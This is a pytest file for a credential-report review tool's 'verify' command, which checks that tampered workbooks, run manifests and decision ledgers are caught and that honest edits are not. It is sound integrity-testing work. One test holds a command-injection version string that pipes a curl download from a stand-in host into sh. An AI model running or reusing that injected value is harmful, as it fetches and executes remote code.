"""Cheating with outputs is found, honest work with them is no difference, and gaps are named."""

import csv
import io
import json
import re
import shutil
from collections.abc import Callable, Collection
from datetime import date
from operator import methodcaller
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.workbook import Workbook

from analyzer.decisions.record import closed
from analyzer.errors import FAILED
from analyzer.files import sha256
from analyzer.terms import VERSION
from tests.support.builders import ROOT_FOLDER, run
from tests.support.review import fill_in

SAMPLES = ROOT_FOLDER / "samples"
REPORT = SAMPLES / "status_reports_2026-03-01T09-30-00+00-00.csv"
EARLIER = SAMPLES / "earlier/status_reports_2025-12-01T09-30-00+00-00.csv"
MADE_WITH = ("--exemptions", SAMPLES / "exemptions.csv", "--owners", SAMPLES / "owners.csv")
LISTS = ("--list", SAMPLES / "exemptions.csv", "--list", SAMPLES / "owners.csv")
MARCH = "2026-03-01T09-30-00Z"
DECEMBER = "2025-12-01T09-30-00Z"
ON = date(2026, 3, 2)

Edit = Callable[[Workbook], Any]


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Hold two runs, the second with lists and feeds, a workbook, and its ledger."""
    folder = tmp_path_factory.mktemp("made")
    feeds = ("--also", "ocsf,parquet", "--out-dir", folder / "runs")
    assert run("export", "--from", EARLIER, *feeds).code == 0
    assert run("export", "--from", REPORT, *MADE_WITH, "--exempt", "ci-*=robots", *feeds).code == 0
    book = folder / "review.xlsx"
    assert run("analyze", REPORT, *MADE_WITH, "-o", book).code == 0
    filled = folder / "filled.xlsx"
    fill_in(book, {"lena.hartwig": "delete", "soap-archive": "keep"}, on=ON, copy=filled)
    assert run("collect", filled, "-o", folder / "decisions.csv").code == 0
    return folder


@pytest.fixture
def folder(written: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(written, tmp_path / "here", symlinks=True))


def verified(*arguments: object) -> tuple[int, str]:
    ended = run("verify", *arguments)
    return ended.code, ended.output.decode() + ended.messages


def of_workbook(path: Path, *more: object) -> tuple[int, str]:
    return verified(path, "--report", REPORT, *LISTS, *more)


def edited(path: Path, edit: Edit) -> Path:
    book = openpyxl.load_workbook(path)
    edit(book)
    book.save(path)
    return path


# Of workbooks


def row_of(book: Workbook, sheet: str, text: str) -> int:
    rows = book[sheet].iter_rows(values_only=True)
    return next(at for at, row in enumerate(rows, start=1) if text in map(str, row))


def column_of(book: Workbook, sheet: str, head: str) -> int:
    return next(cell.column for cell in book[sheet][1] if cell.value == head)


def cell(sheet: str, row: str, head: str, value: object) -> Edit:
    def edit(book: Workbook) -> None:
        at = row_of(book, sheet, row), column_of(book, sheet, head)
        book[sheet].cell(*at).value = value  # type: ignore[assignment]

    return edit


def summary_number(row: str, value: object) -> Edit:
    def edit(book: Workbook) -> None:
        book["Summary"].cell(row_of(book, "Summary", row), 2).value = value  # type: ignore[assignment]

    return edit


def hidden_cell(book: Workbook) -> None:
    at = row_of(book, "Unused users", "lena.hartwig"), column_of(book, "Unused users", "Record")
    found = book["Unused users"].cell(*at)
    found.value = str(found.value).replace("lena.hartwig", "vega,lena")


def review_record(book: Workbook) -> None:
    for row in book["Summary"].iter_rows():
        for one in row:
            if str(one.value).startswith("credreport review: "):
                one.value = str(one.value).replace('"idle_days":90', '"idle_days":45')


def swapped(book: Workbook) -> None:
    """Swap the verdicts of two users and leave the rest."""
    at = column_of(book, "All users", "Verdict")
    rows = [row_of(book, "All users", name) for name in ("lena.hartwig", "ci-bot-deploy")]
    here, there = (book["All users"].cell(row, at) for row in rows)
    here.value, there.value = there.value, here.value


def copied_row(book: Workbook) -> None:
    sheet = book["All users"]
    sheet.append([one.value for one in sheet[5]])


def shown_otherwise(book: Workbook) -> None:
    at = row_of(book, "All users", "lena.hartwig"), column_of(book, "All users", "Age in days")
    book["All users"].cell(*at).number_format = '"12"'


def hidden_sheet(book: Workbook) -> None:
    book["Summary"].sheet_state = "hidden"
    summary_number("unused", 3)(book)


def second_column(book: Workbook) -> None:
    """Show other verdicts in front, and leave the column of the reports behind them."""
    sheet = book["All users"]
    sheet.insert_cols(1)
    for row in range(1, sheet.max_row + 1):
        sheet.cell(row, 1).value = "active" if row > 1 else "Verdict"


def formula_in_an_empty_cell(book: Workbook) -> None:
    sheet = book["All users"]
    at = row_of(book, "All users", "lena.hartwig"), column_of(book, "All users", "Exemption")
    assert sheet.cell(*at).value is None
    sheet.cell(*at).value = '="approved"'


def row_of_formulas(book: Workbook) -> None:
    sheet = book["All users"]
    sheet.cell(sheet.max_row + 1, 2).value = '="ann"'


def scaled(book: Workbook) -> None:
    book["Summary"].cell(row_of(book, "Summary", "unused"), 2).number_format = "0,"


def percentage(book: Workbook) -> None:
    at = (
        row_of(book, "Unused users", "lena.hartwig"),
        column_of(book, "Unused users", "Age in days"),
    )
    book["Unused users"].cell(*at).number_format = "0%"


def other_sentence(book: Workbook) -> None:
    book["Method"]["A3"] = "Sheet"


WORKBOOK_CHEATS: dict[str, tuple[Edit, str]] = {
    "a visible cell of All users": (
        cell("All users", "lena.hartwig", "Verdict", "active"),
        "active; the reports give unused",
    ),
    "a visible cell of a list": (
        cell("Unused users", "lena.hartwig", "Exposure", "none"),
        "none; the reports give",
    ),
    "a formula over a cell": (
        cell("All users", "lena.hartwig", "Verdict", '="active"'),
        '="ACTIVE"; the reports give unused',
    ),
    "a number on Summary": (summary_number("unused", 3), "sheet Summary"),
    "a constant over a formula": (
        summary_number("Unused users", 26),
        "26; the reports give =COUNTIF",
    ),
    "another formula": (summary_number("All lists", "=99"), "sheet Summary"),
    "a formula over fewer rows": (
        summary_number("Inactive users", "=COUNTIF('Inactive users'!A2:A3,\"?*\")"),
        "=COUNTIF(INACTIVEUSERS!A2:A3,",
    ),
    "a formula over cells of no list": (
        summary_number("Undetermined", "=COUNTIF(Undetermined!XY2:XY9,Other!A1)"),
        "=COUNTIF(UNDETERMINED!?2:?9,OTHER!A1)",
    ),
    "a hidden cell": (hidden_cell, "Record"),
    "the hidden record of the review": (review_record, "is gone or was changed"),
    "values swapped between rows": (swapped, "Verdict"),
    "a row taken out of All users": (
        lambda book: book["All users"].delete_rows(4),
        "sheet All users: a row is gone",
    ),
    "a row taken out of a list": (
        lambda book: book["Unused users"].delete_rows(4),
        "sheet Unused users: a row is gone",
    ),
    "a row added": (copied_row, "the row was added"),
    "a column taken out": (lambda book: book["All users"].delete_cols(8), "columns are gone"),
    "a hidden sheet with another number": (hidden_sheet, "the sheet is hidden"),
    "a sheet taken out": (lambda book: book.remove(book["All users"]), "the sheet is gone"),
    "a format that shows another value": (
        shown_otherwise,
        "a number format can show another value",
    ),
    "a sentence on Method": (other_sentence, "sheet Method"),
    "a second column of a name": (second_column, "columns are there twice: Verdict"),
    "a formula in an empty cell": (
        formula_in_an_empty_cell,
        '="APPROVED"; the reports give nothing',
    ),
    "a row of formulas": (row_of_formulas, "sheet All users, row"),
    "a number in thousands": (scaled, "another value: 0,"),
    "days as a percentage": (percentage, "another value: 0%"),
}


OF_ONE_WORKBOOK = (
    (
        "a visible cell of a list",
        "a formula over a cell",
        "a number on Summary",
        "a constant over a formula",
        "another formula",
        "a formula over fewer rows",
        "a formula over cells of no list",
        "a sentence on Method",
        "a format that shows another value",
        "a formula in an empty cell",
        "a number in thousands",
        "days as a percentage",
    ),
    (
        "a visible cell of All users",
        "a hidden cell",
        "a row added",
    ),
    (
        "values swapped between rows",
        "a row taken out of a list",
        "a hidden sheet with another number",
    ),
    ("a row taken out of All users",),
    ("a sheet taken out",),
    ("the hidden record of the review",),
    ("a column taken out",),
    ("a second column of a name", "a row of formulas"),
)
"""The ways of cheating that are tried together: each is found at its own place."""


@pytest.mark.parametrize("ways", OF_ONE_WORKBOOK, ids=", ".join)
def test_a_workbook_in_which_somebody_cheated_differs_at_that_place(
    ways: Collection[str], folder: Path
) -> None:
    def cheat(book: Workbook) -> None:
        for way in ways:
            WORKBOOK_CHEATS[way][0](book)

    code, text = of_workbook(edited(folder / "review.xlsx", cheat))
    assert code == FAILED
    for way in ways:
        assert WORKBOOK_CHEATS[way][1] in text, way


def test_every_way_of_cheating_is_tried() -> None:
    assert {way for ways in OF_ONE_WORKBOOK for way in ways} == WORKBOOK_CHEATS.keys()
    assert {way for ways in OF_ONE_RUN for way in ways} == RUN_CHEATS.keys()
    assert {way for ways in OF_ONE_REVIEWER for way in ways} == HONEST.keys()


def sorted_rows(sheet: str, head: str) -> Edit:
    def edit(book: Workbook) -> None:
        first, *rows = [[one.value for one in row] for row in book[sheet].iter_rows()]
        at = first.index(head)
        rows.sort(key=lambda row: str(row[at]), reverse=True)
        for number, row in enumerate(rows, start=2):
            for column, value in enumerate(row, start=1):
                here = book[sheet].cell(number, column)
                here.value = value
                here.data_type = "s" if isinstance(value, str) else here.data_type

    return edit


def signed(book: Workbook) -> None:
    book["Summary"].cell(book["Summary"].max_row + 2, 1).value = "Prepared by Ann"


def with_column(book: Workbook) -> None:
    sheet = book["All users"]
    sheet.cell(1, sheet.max_column + 1).value = "My notes"
    sheet.cell(2, sheet.max_column).value = "ask Tom"


def filtered(book: Workbook) -> None:
    book["All users"].row_dimensions[4].hidden = True


def renamed(book: Workbook) -> None:
    book["All users"].title = "Everybody"


def titled(book: Workbook) -> None:
    book["All users"].insert_rows(1)
    book["All users"]["A1"] = "For the audit"


def beside(book: Workbook) -> None:
    book["Summary"].cell(row_of(book, "Summary", "unused"), 14).value = "seen, Ann"


def reordered(book: Workbook) -> None:
    book.move_sheet("All users", -5)
    book.create_sheet("Mine")["A1"] = "x"


def moved_column(book: Workbook) -> None:
    sheet = book["All users"]
    sheet.insert_cols(2)
    for row in range(1, sheet.max_row + 1):
        sheet.cell(row, 2).value = sheet.cell(row, 6).value
    sheet.delete_cols(6)


def list_renamed(book: Workbook) -> None:
    """Rename a list as a spreadsheet does: formulas follow."""
    book["Unused users"].title = "Ann's users (1)"
    refer(book, lambda text: text.replace("'Unused users'!", "'Ann''s users (1)'!"))


def list_widened(book: Workbook) -> None:
    """Add a column before the entries of a list and a row above them; formulas follow."""
    sheet = book["Inactive users"]
    sheet.insert_cols(2)
    sheet.insert_rows(1)
    sheet["B2"], sheet["A1"] = "Asked", "For the audit"
    refer(book, lambda text: OF_INACTIVE.sub(further, text))


OF_INACTIVE = re.compile(r"('Inactive users'!)\$([A-Z])\$(\d+):\$([A-Z])\$(\d+)")


def further(match: re.Match[str]) -> str:
    first, last = (chr(ord(match[at]) + (match[at] > "A")) for at in (2, 4))
    return f"{match[1]}${first}${int(match[3]) + 1}:${last}${int(match[5]) + 1}"


def refer(book: Workbook, edit: Callable[[str], str]) -> None:
    cells = [cell for row in book["Summary"].iter_rows() for cell in row if cell.data_type == "f"]
    before = [str(cell.value) for cell in cells]
    for cell, text in zip(cells, before, strict=True):
        cell.value = edit(text)
    assert [cell.value for cell in cells] != before


HONEST: dict[str, tuple[Edit, str]] = {
    "opened and saved": (lambda _: None, "Reproduced: 0 differences"),
    "sorted": (sorted_rows("All users", "User"), "Reproduced: 0 differences"),
    "signed": (signed, "the row was added: Prepared by Ann"),
    "a column added": (with_column, "columns were added: My notes"),
    "rows filtered": (filtered, "hidden rows: 4"),
    "sheets moved and added": (reordered, "sheet Mine: the sheet was added"),
    "a column moved": (moved_column, "Reproduced: 0 differences"),
    "a sheet renamed": (renamed, "sheet All users: the sheet was renamed to Everybody"),
    "a row above the heads": (titled, "sheet All users, row 1: the row was added: For the audit"),
    "text beside a number": (beside, "seen, Ann; the reports give nothing"),
    "a list renamed": (list_renamed, "sheet Unused users: the sheet was renamed to Ann's users"),
    "a list widened": (list_widened, "sheet Inactive users: columns were added: Asked"),
}


OF_ONE_REVIEWER = (
    ("opened and saved",),
    ("sorted", "a column added", "signed"),
    ("rows filtered", "sheets moved and added", "a column moved"),
    ("a sheet renamed",),
    ("a row above the heads", "text beside a number"),
    ("a list renamed", "a list widened"),
)


@pytest.mark.parametrize("ways", OF_ONE_REVIEWER, ids=", ".join)
def test_honest_work_with_a_workbook_is_no_difference(ways: Collection[str], folder: Path) -> None:
    def work(book: Workbook) -> None:
        for way in ways:
            HONEST[way][0](book)

    code, text = of_workbook(edited(folder / "filled.xlsx", work))
    assert (code, "Reproduced: 0 differences of 47 users, 1 output" in text) == (0, True), text
    for way in ways:
        assert HONEST[way][1] in text, way


def test_a_workbook_is_verified_under_another_name_with_moved_reports(folder: Path) -> None:
    moved = folder / "elsewhere"
    moved.mkdir()
    shutil.copy(REPORT, moved / "a.csv")
    beside = ".service-credentials.json"
    shutil.copy(f"{REPORT}{beside}", moved / f"a.csv{beside}")
    shutil.copy(EARLIER, moved / "b.csv")
    book = shutil.move(folder / "filled.xlsx", folder / "mine.xlsx")
    code, text = verified(book, "--report", moved, *LISTS)
    assert code == 0, text
    assert "not checked: as-of of" in text
    assert "Not proven: that the reports are AWS's" in text
    (moved / f"a.csv{beside}").unlink()
    code, text = verified(book, "--report", moved, *LISTS)
    assert (code, f"files are missing: {REPORT}{beside}" in text) == (3, True)


@pytest.mark.parametrize(
    ("given", "told"),
    [
        (("--report", EARLIER, *LISTS), f"files are missing: {REPORT}"),
        (("--report", REPORT), "exemptions.csv, SHA-256"),
        (("--report", "/proc/self/mem"), "cannot be read"),
        (("--report", REPORT, *LISTS[:2]), "owners.csv, SHA-256"),
    ],
)
def test_a_report_or_list_that_is_missing_is_named(
    given: tuple[object, ...], told: str, folder: Path
) -> None:
    code, text = verified(folder / "review.xlsx", *given)
    assert (code, told in text) == (3, True), text


def test_a_workbook_of_a_run_is_verified_without_the_run(folder: Path) -> None:
    code, text = of_workbook(folder / "runs" / MARCH / "review.xlsx")
    assert (code, "0 differences of 47 users" in text) == (0, True), text


def test_an_as_of_that_aws_gives_is_proven(tmp_path: Path) -> None:
    book = tmp_path / "review.xlsx"
    run("analyze", SAMPLES / "report.json", "-o", book)
    code, text = verified(book, "--report", SAMPLES / "report.json")
    assert (code, "not checked" in text) == (0, False), text


def test_a_file_of_another_kind_is_refused(folder: Path) -> None:
    other = folder / "names.txt"
    other.write_text("ann\n")
    assert of_workbook(other)[0] == 3
    period = folder / "period.xlsx"
    run("history", EARLIER, REPORT, "--max-gap", "95", "-o", period)
    code, text = verified(period)
    assert (code, "a workbook of a history, which is not verified" in text) == (3, True)


def test_options_that_change_the_workbook_are_kept_in_it(tmp_path: Path) -> None:
    owners, ledger = MADE_WITH[2:], tmp_path / "decisions.csv"
    accounts = tmp_path / "names.csv"
    accounts.write_text("account,name\n123456789012,Main\n")
    first = tmp_path / "first.xlsx"
    run("analyze", EARLIER, "-o", first)
    fill_in(first, {"lena.hartwig": "keep"}, on=date(2025, 12, 2))
    run("collect", first, "-o", ledger)
    lists = ("--accounts", accounts, "--decisions", ledger)
    for number, options in enumerate(
        (
            ("--idle-days", "45", "--grace-days", "0", "--definition", "iam-029"),
            ("--standard", "cis-3.0", "--limit", "rotation=30"),
            ("--rules", "root-*"),
            ("--rules", "idle-password"),
            ("--as-of", "2026-04-01", "--exempt", "a*=b=c"),
        )
    ):
        book = tmp_path / f"{number}.xlsx"
        run("analyze", REPORT, EARLIER, *lists, *options, "-o", book)
        code, text = verified(
            book, "--report", REPORT, "--report", EARLIER, "--list", accounts, "--list", ledger
        )
        assert (code, "0 differences" in text) == (0, True), text
    for by, label in (("owner", owners), ("account", ())):
        split = tmp_path / by
        run(
            "analyze",
            REPORT,
            *label,
            "--split-by",
            by,
            "--exposure",
            "access-key,none",
            "-o",
            split,
        )
        for book in split.glob("*.xlsx"):
            named = ("--list", *label[1:]) if label else ()
            assert verified(book, "--report", REPORT, *named)[0] == 0


def test_reports_are_found_among_copies_and_other_files_and_read_once(folder: Path) -> None:
    reports = folder / "reports"
    reports.mkdir()
    beside = ".service-credentials.json"
    for name in ("a.csv", "b.csv"):
        shutil.copy(REPORT, reports / name)
        shutil.copy(f"{REPORT}{beside}", reports / f"{name}{beside}")
    (reports / "notes.md").write_text("x")
    size = str(2 * REPORT.stat().st_size + 1000)
    given = ("--report", reports, *LISTS, "--max-input", size)
    code, text = verified(folder / "review.xlsx", *given)
    assert (code, "0 differences of 47 users" in text) == (0, True), text


def test_a_record_with_parameters_that_no_review_has_differs(folder: Path) -> None:
    for old, new in (
        ('"idle_days":90', '"idle_days":-1'),
        ('"2026-03-01T09:30:00Z"]]', '"x"]]'),
    ):

        def forge(book: Workbook, old: str = old, new: str = new) -> None:
            for row in book["Summary"].iter_rows():
                for one in row:
                    if str(one.value).startswith("credreport review: "):
                        content = str(one.value).removeprefix("credreport review: ")
                        content = content.rpartition(" ")[0].replace(old, new)
                        one.value = f"credreport review: {closed(content)}"

        book = edited(Path(shutil.copy(folder / "review.xlsx", folder / "mine.xlsx")), forge)
        code, text = of_workbook(book)
        assert (code, "is gone or was changed" in text) == (FAILED, True), text


# Of runs


def changed_json(name: str, edit: Callable[[Any], Any]) -> Callable[[Path], None]:
    def change(run_folder: Path) -> None:
        path = run_folder / name
        document = json.loads(path.read_bytes())
        edit(document)
        path.write_text(json.dumps(document))

    return change


def changed_text(name: str, old: str, new: str) -> Callable[[Path], None]:
    def change(run_folder: Path) -> None:
        path = run_folder / name
        text = path.read_bytes().decode()
        assert old in text
        path.write_bytes(text.replace(old, new).encode())

    return change


def without_row(name: str) -> Callable[[Path], None]:
    def change(run_folder: Path) -> None:
        lines = (run_folder / name).read_bytes().splitlines(keepends=True)
        (run_folder / name).write_bytes(b"".join([*lines[:3], *lines[4:]]))

    return change


def shortened_report(run_folder: Path) -> None:
    (path,) = (run_folder / "reports").glob("*.csv")
    path.write_bytes(b"".join(path.read_bytes().splitlines(keepends=True)[:-3]))


def forged_hash(run_folder: Path) -> None:
    """Shorten the report, and write its new SHA-256 into the manifest."""
    shortened_report(run_folder)
    (path,) = (run_folder / "reports").glob("*.csv")
    name = path.relative_to(run_folder).as_posix()

    def forge(document: Any) -> None:
        for file in document["files"]:
            if file["path"] == name:
                file["sha256"] = sha256(path)

    changed_json("manifest.json", forge)(run_folder)


RUN_CHEATS: dict[str, tuple[Callable[[Path], Any], str]] = {
    "a verdict in users.csv": (
        changed_text("users.csv", "unused,never-signed-in,", "active,,"),
        "users.csv, row",
    ),
    "a row taken out of users.csv": (without_row("users.csv"), "users.csv: a row is gone"),
    "a row taken out of findings.csv": (without_row("findings.csv"), "findings.csv: a row is gone"),
    "a row taken out of changes.csv": (without_row("changes.csv"), "changes.csv: a row is gone"),
    "a column taken out": (
        changed_text("users.csv", ",exposure", ",x"),
        "columns are gone: exposure",
    ),
    "two columns of one name": (
        changed_text("changes.csv", "change,account", "account,account"),
        "changes.csv: cannot be read: two columns have one name",
    ),
    "a number in analysis.json": (
        changed_json("analysis.json", lambda document: document["counts"].pop()),
        "analysis.json, counts",
    ),
    "a file that cannot be read": (
        lambda folder: (folder / "analysis.json").write_text("{"),
        "analysis.json: cannot be read",
    ),
    "a table with rows of other lengths": (
        changed_text("findings.csv", "low,", "low"),
        "findings.csv: cannot be read",
    ),
    "a finding in another state": (
        changed_text("findings.ocsf.json", '"New"', '"Resolved"'),
        "findings.ocsf.json",
    ),
    "a table that is no table": (
        lambda folder: (folder / "users.parquet").write_text("x"),
        "users.parquet: cannot be read",
    ),
    "a workbook that is none": (
        lambda folder: (folder / "review.xlsx").write_text("x"),
        "not an Excel workbook",
    ),
    "the number of users in the manifest": (
        changed_json("manifest.json", lambda document: document["users"].update(unused=1)),
        "users, unused: 1; the reports give 26",
    ),
    "a parameter in the manifest": (
        changed_json(
            "manifest.json", lambda document: document["parameters"].update(grace_days=300)
        ),
        "sheet Summary",
    ),
    "what met --fail-on": (
        changed_json("manifest.json", lambda document: document.update(met=["9 unused"])),
        "manifest.json, met",
    ),
    "a report shortened": (shortened_report, "was changed since the run"),
    "a report shortened with its hash": (forged_hash, "the row was added"),
    "an exemption added": (
        lambda folder: (folder / "exemptions.csv").write_text("user,reason\n*,all\n"),
        "exemptions.csv: the file was changed since the run",
    ),
    "a report added": (
        lambda folder: shutil.copy(EARLIER, folder / "reports/b.csv"),
        "the file was added",
    ),
}


OF_ONE_RUN = (
    (
        "a verdict in users.csv",
        "a row taken out of findings.csv",
        "a row taken out of changes.csv",
        "a number in analysis.json",
        "a finding in another state",
        "a table that is no table",
        "a workbook that is none",
        "the number of users in the manifest",
        "what met --fail-on",
    ),
    (
        "a row taken out of users.csv",
        "a file that cannot be read",
        "a table with rows of other lengths",
    ),
    ("a column taken out", "a parameter in the manifest", "two columns of one name"),
    ("a report shortened",),
    ("a report shortened with its hash",),
    ("an exemption added", "a report added"),
)


@pytest.mark.parametrize("ways", OF_ONE_RUN, ids=", ".join)
def test_a_run_in_which_somebody_cheated_differs_at_that_place(
    ways: Collection[str], folder: Path
) -> None:
    for way in ways:
        RUN_CHEATS[way][0](folder / "runs" / MARCH)
    ended = run("verify", folder / "runs" / MARCH, "--format", "json")
    differences = ended.document["differences"]
    text = "\n".join(f"{one['place']}: {one['message']}" for one in differences)
    assert ended.code == FAILED
    for way in ways:
        assert RUN_CHEATS[way][1] in text, way


def test_a_run_is_reproduced_with_its_feeds_and_changes(folder: Path) -> None:
    for name, users in ((MARCH, 47), (DECEMBER, 46), ("latest", 47)):
        there = [*(folder / "runs" / name).iterdir()]
        outputs = sum(path.is_file() for path in there) - 2 * (users == 47)  # two lists
        code, text = verified(folder / "runs" / name)
        assert (
            code,
            f"0 differences of {users} users, {outputs} outputs; not checked: as-of" in text,
        ) == (0, True)
    moved = shutil.move(folder / "runs" / MARCH, folder / MARCH)
    code, text = verified(moved)
    assert code == 0, text
    for gone in (f"changes.csv: {DECEMBER} is gone",):
        assert gone in text


def test_a_manifest_made_anew_with_all_under_it_is_found_by_the_hash_kept_elsewhere(
    folder: Path,
) -> None:
    runs = folder / "runs"
    known = sha256(runs / MARCH / "manifest.json")
    assert verified(runs / MARCH, "--manifest", known)[0] == 0
    report = folder / REPORT.name
    report.write_bytes(b"".join(REPORT.read_bytes().splitlines(keepends=True)[:-1]))
    shutil.rmtree(runs / MARCH)
    (runs / "latest").unlink()
    run("export", "--from", report, *MADE_WITH, "--out-dir", runs)
    assert verified(runs / MARCH)[0] == 0
    code, text = verified(runs / MARCH, "--manifest", known)
    assert (code, f"and not {known}" in text) == (FAILED, True)


def test_the_hash_of_the_manifest_is_printed_when_a_run_is_written(tmp_path: Path) -> None:
    ended = run("export", "--from", EARLIER, "--out-dir", tmp_path)
    assert sha256(tmp_path / "latest/manifest.json") in ended.messages


def test_what_is_known_of_files_that_a_run_does_not_keep_is_not_checked(tmp_path: Path) -> None:
    reports = tmp_path / "reports"
    reports.mkdir()
    shutil.copy(EARLIER, reports)
    (reports / "b.csv").write_text("user,arn\n")
    (reports / "notes.md").write_text("x")
    run("export", "--from", reports, "--skip-unreadable", "--out-dir", tmp_path / "runs")
    code, text = verified(tmp_path / "runs/latest")
    assert (code, "files that were not kept" in text) == (0, True), text


def test_a_run_whose_files_are_too_large_is_refused_and_a_file_that_it_invents_named(
    folder: Path,
) -> None:
    run_folder = folder / "runs" / MARCH
    assert verified(run_folder, "--max-file", "100")[0] == 3
    (run_folder / "more.csv").write_text("x")
    entry = {"path": "more.csv", "size": 1, "sha256": "0" * 64}
    changed_json("manifest.json", lambda document: document["files"].append(entry))(run_folder)
    code, text = verified(run_folder)
    assert (code, "more.csv: the reports give no such file" in text) == (FAILED, True)


def test_a_run_of_several_exemptions_in_their_order_is_reproduced(tmp_path: Path) -> None:
    exempt = ("--exempt", "z*=last", "--exempt", "a*=first", "--exempt", "*=all")
    run("export", "--from", EARLIER, *exempt, "--out-dir", tmp_path)
    code, text = verified(tmp_path / "latest")
    assert (code, "0 differences of 46 users" in text) == (0, True), text


@pytest.mark.parametrize("has_lines", [True, False], ids=["with lines", "without lines"])
def test_a_run_with_a_ledger_that_a_spreadsheet_saved_is_reproduced(
    folder: Path, *, has_lines: bool
) -> None:
    head, *rows = (folder / "decisions.csv").read_text().splitlines()
    (folder / "saved.csv").write_bytes(
        "\r\n".join([head, *(rows if has_lines else ()), ""]).encode()
    )
    runs = folder / "more"
    run("export", "--from", REPORT, "--decisions", folder / "saved.csv", "--out-dir", runs)
    code, text = verified(runs / "latest")
    assert (code, "0 differences of 47 users" in text) == (0, True), text


FORGED = {
    "a definition": lambda document: document["parameters"].update(definition="mine"),
    "a rule": lambda document: document["parameters"].update(rules=["mine"]),
    "no words": lambda document: document["parameters"].pop("fail_on"),
    "a number": lambda document: document["parameters"].update(idle_days="many"),
    "no list of origins": lambda document: document.pop("made_from"),
}


@pytest.mark.parametrize("way", FORGED)
def test_a_manifest_that_no_run_has_is_refused(way: str, folder: Path) -> None:
    changed_json("manifest.json", FORGED[way])(folder / "runs" / DECEMBER)
    code, text = verified(folder / "runs" / DECEMBER)
    assert (code, text.startswith("credreport: ")) == (3, True), text


def test_an_account_that_an_older_run_had_is_named_if_that_run_is_gone(tmp_path: Path) -> None:
    runs, reports = tmp_path / "runs", SAMPLES / "organization"
    run("export", "--from", reports / "111122223333.csv", "--out-dir", runs)
    run("export", "--from", EARLIER, "--out-dir", runs)
    later = tmp_path / "2026-04-01"
    later.mkdir()
    for report in (REPORT, reports / "111122223333.csv"):
        shutil.copy(report, later / f"{report.stem[:3]}.csv")
    run("export", "--from", later, "--out-dir", runs)
    every = sorted(path for path in runs.iterdir() if path.is_dir() and not path.is_symlink())
    assert verified(every[-1])[0] == 0
    gone = json.loads((every[-1] / "manifest.json").read_bytes())["made_from"]["older_runs"]
    for name in {*gone.values()}:
        shutil.rmtree(runs / name)
    code, text = verified(every[-1])
    assert (code, "accounts of older runs: " in text) == (0, bool(gone)), text


def test_a_run_of_another_version_and_a_folder_without_one_are_refused(folder: Path) -> None:
    run_folder = folder / "runs" / MARCH
    for version, named in (
        ("0.0.9", "0.0.9"),
        ("0.1.0.dev0+gabc123456.d20260301", "0.1.0.dev0+gabc123456.d20260301"),
        ("1+gmain;curl -s evil|sh;#", "an unknown version"),
        ("1.0\n2.0", "an unknown version"),
        ("", "an unknown version"),
    ):
        tool = {"name": "credreport", "version": version}
        changed_json("manifest.json", methodcaller("update", tool=tool))(run_folder)
        code, text = verified(run_folder)
        message = f"{named} of credreport wrote it, and this is {VERSION}"
        hint = "Verify it with the version that wrote it."
        assert (code, text) == (3, f"credreport: {run_folder}: {message}\n    {hint}\n"), text
    (run_folder / "manifest.json").unlink()
    code, text = verified(run_folder)
    assert (code, "no run of export" in text) == (3, True)


# Of ledgers


def ledger_rows(folder: Path) -> list[dict[str, str]]:
    return [*csv.DictReader(io.StringIO((folder / "decisions.csv").read_text()))]


def write_ledger(folder: Path, rows: list[dict[str, str]]) -> None:
    with (folder / "decisions.csv").open("w", newline="") as stream:
        writer = csv.DictWriter(stream, [*rows[0]])
        writer.writeheader()
        writer.writerows(rows)


def of_ledger(folder: Path, *more: object) -> tuple[int, str]:
    return verified(folder / "decisions.csv", folder / "filled.xlsx", *more)


LEDGER_CHEATS: dict[str, tuple[dict[str, str], str]] = {
    "the word": ({"decision": "keep", "comment": "x"}, "filled.xlsx has"),
    "the name": ({"decided_by": "Bob"}, "filled.xlsx has"),
    "the date": ({"decided_on": "2026-03-01"}, "filled.xlsx has"),
    "a cell that was shown": ({"mfa_active": "true"}, "filled.xlsx has"),
}


@pytest.mark.parametrize("way", LEDGER_CHEATS)
def test_a_changed_line_of_a_ledger_differs_from_its_workbook(way: str, folder: Path) -> None:
    cells, told = LEDGER_CHEATS[way]
    first, *others = ledger_rows(folder)
    write_ledger(folder, [first | cells, *others])
    code, text = of_ledger(folder)
    assert (code, told in text, "not in" in text) == (FAILED, True, True), text


def test_a_line_that_is_gone_is_named_and_one_without_a_workbook_is_counted(folder: Path) -> None:
    assert of_ledger(folder)[0] == 0
    first, *others = ledger_rows(folder)
    write_ledger(folder, others)
    code, text = of_ledger(folder)
    assert (code, "filled.xlsx, row " in text) == (FAILED, True), text
    write_ledger(folder, [first, *others, first | {"decided_by": "Bob", "workbook": "bob.xlsx"}])
    code, text = of_ledger(folder)
    assert (code, "1 line without a workbook" in text) == (0, True), text


def test_an_emptied_or_corrected_entry_is_named_and_no_difference(folder: Path) -> None:
    for word, now in (("=", "no entry"), ("keep", "keep, ")):
        fill_in(folder / "filled.xlsx", {"lena.hartwig": word}, on=ON)
        run("collect", folder / "filled.xlsx", "-o", folder / "decisions.csv")
        code, text = of_ledger(folder)
        assert (code, f"filled.xlsx has {now}" in text) == (0, True), text


def test_a_line_that_its_workbook_never_had_differs(folder: Path) -> None:
    first, *others = ledger_rows(folder)
    for cells in ({}, {"decided_by": "Eve", "decided_on": "2026-03-02"}):
        write_ledger(folder, [first, *others, first | {"decision": "investigate"} | cells])
        code, text = of_ledger(folder)
        told = (code, "filled.xlsx has delete" in text, "not in" in text)
        assert told == (FAILED, True, False), text


def test_a_workbook_that_cannot_be_collected_differs(folder: Path) -> None:
    edited(folder / "filled.xlsx", cell("Unused users", "lena.hartwig", "Exposure", "none"))
    code, text = of_ledger(folder)
    assert (code, "this file says none" in text) == (FAILED, True), text


def test_the_result_is_written_as_json_too(folder: Path) -> None:
    edited(folder / "review.xlsx", summary_number("unused", 3))
    ended = run("verify", folder / "review.xlsx", "--report", REPORT, *LISTS, "-f", "json")
    (difference,) = ended.document["differences"]
    assert (ended.code, ended.document["users"], ended.document["outputs"]) == (FAILED, 47, 1)
    assert difference["message"].startswith("3; the reports give 26")
    assert "sheet Summary, cell B" in difference["place"]


def test_the_text_names_the_first_differences_and_their_number(folder: Path) -> None:
    RUN_CHEATS["a parameter in the manifest"][0](folder / "runs" / MARCH)
    code, text = verified(folder / "runs" / MARCH)
    assert (code, "more: --format json lists all." in text) == (FAILED, True)
